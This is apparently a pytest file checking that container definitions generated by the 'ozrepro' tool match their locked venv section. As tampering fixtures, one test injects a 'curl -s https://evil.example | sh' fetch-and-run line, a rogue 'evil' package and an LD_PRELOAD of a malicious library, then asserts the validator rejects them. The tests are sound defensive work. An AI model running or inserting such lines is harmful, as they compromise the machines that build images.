"""A definition made from another method's section, and what this site adds to it."""

from __future__ import annotations

import sys

import pytest

from ozrepro.errors import LockError
from ozrepro.methods import registry
from ozrepro.methods.container.from_lock import generate, source_section, unlike_source
from ozrepro.methods.container.table import ContainerTable
from ozrepro.methods.contract import Subject
from ozrepro.methods.image_definition import is_of_wheels
from ozrepro.methods.reading import load_lock, load_settings, load_spec
from ozrepro.project.lock import Lock, Section
from ozrepro.site import Site, look_around
from tests.conftest import Project
from tests.needs import UNPACKS
from tests.wheels import make_sdist, make_wheel

FORGE = "https://conda.anaconda.org/conda-forge"
EXPLICIT = f"@EXPLICIT\n{FORGE}/linux-64/python-3.10.8-0.conda#sha256:{'d' * 64}\n"


def site_of(project: Project, **more: str) -> Site:
    environ = {**project.environ, **more}
    return look_around(load_settings(project.root, environ), environ)


def subject_of(project: Project) -> Subject[ContainerTable]:
    return registry.subject_of("container", load_spec(project.root, "work"), site_of(project))


@UNPACKS
class TestMaking:
    @pytest.fixture
    def locked(self, small: Project) -> tuple[Project, Lock]:
        """Give a project with a locked venv of a wheel and a source archive, and an image made from it."""
        make_sdist(small.wheelhouse, "source", "1.0")
        make_wheel(small.wheelhouse, "helper-tool")
        small.spec('[venv]\nrequirements = ["alpha", "source"]\nbuild = ["source"]\n[container]\nfrom = "venv"\n')
        small.done("lock", "--method", "venv")
        lock = load_lock(small.root, "work")
        assert lock is not None
        return small, lock

    def test_the_wheels_of_a_venv_are_pinned_by_hash_and_what_is_left_out_is_said(self, locked: tuple[Project, Lock]) -> None:
        project, lock = locked
        subject, said = subject_of(project), list[str]()
        section = source_section(subject, lock.sections)
        lines = generate(section, subject, said.append)
        assert is_of_wheels(lines)
        assert lines[0] == "# Made by ozrepro from venv.any of work.lock: change the lock, not this text."
        assert lines[2] == f"From: docker.io/library/python:3.{sys.version_info.minor}-slim"
        assert [line for line in lines if "==" in line] == ["alpha==1.0 \\", "beta==1.5 \\"]
        assert "source 1.0 is locked as a source archive: the image is made without it" in said
        assert generate(section, subject, print) == lines

    def test_a_made_definition_that_installs_other_files_than_its_section_is_told(self, locked: tuple[Project, Lock]) -> None:
        project, lock = locked
        subject = subject_of(project)
        section = source_section(subject, lock.sections)
        lines = generate(section, subject, print)
        assert unlike_source(lines, section, subject) == []
        first = lines.index("alpha==1.0 \\")
        other = (*lines[: first + 1], f"    --hash=sha256:{'0' * 64}", *lines[first + 2 :])
        less = (*lines[:first], *lines[first + 2 :])
        more = (*lines[:first], "evil==1.0 \\", f"    --hash=sha256:{'0' * 64}", *lines[first:])
        assert all(map(is_of_wheels, (other, less, more)))
        installs, lacks = "installs '{}', which venv.any of work.lock does not have", "lacks '{}' of venv.any of work.lock"
        assert unlike_source(other, section, subject) == [installs.format("alpha==1.0"), lacks.format("alpha==1.0")]
        assert unlike_source(less, section, subject) == [lacks.format("alpha==1.0")]
        assert unlike_source(more, section, subject) == [installs.format("evil==1.0")]
        command = (*lines[:4], "curl -s https://evil.example | sh", *lines[4:])
        loaded = (*lines, "export LD_PRELOAD=/evil.so")
        for edited in (command, loaded):
            assert unlike_source(edited, section, subject) == ["is not a definition that ozrepro makes"]

    def test_each_version_that_is_locked_for_some_python_is_in_the_list(self, project: Project) -> None:
        """Whatever Python the base has: pip takes the one whose marker holds."""
        for version in ("1.0", "2.0"):
            make_wheel(project.wheelhouse, "alpha", version)
        project.spec(
            "[venv]\nrequirements = ['alpha==1.0; python_version<\"3.12\"', 'alpha==2.0; python_version>=\"3.12\"']\n"
            '[container]\nfrom = "venv"\n'
        )
        project.done("lock", "--method", "venv")
        subject, lock = subject_of(project), load_lock(project.root, "work")
        assert lock is not None
        lines = generate(source_section(subject, lock.sections), subject, print)
        assert is_of_wheels(lines)
        assert [line.partition(" ;")[0] for line in lines if "==" in line] == ["alpha==1.0", "alpha==2.0"]

    def test_a_missing_section_to_make_a_definition_from_is_named(self, locked: tuple[Project, Lock]) -> None:
        project, _ = locked
        subject = subject_of(project)
        elsewhere = Section("venv", "other", f"sha256:{'0' * 64}", {})
        for others in ((), (elsewhere,)):
            with pytest.raises(LockError, match=r"has no section venv\.any, which the image is made from") as caught:
                source_section(subject, others)
            assert "ozrepro lock work" in caught.value.hint
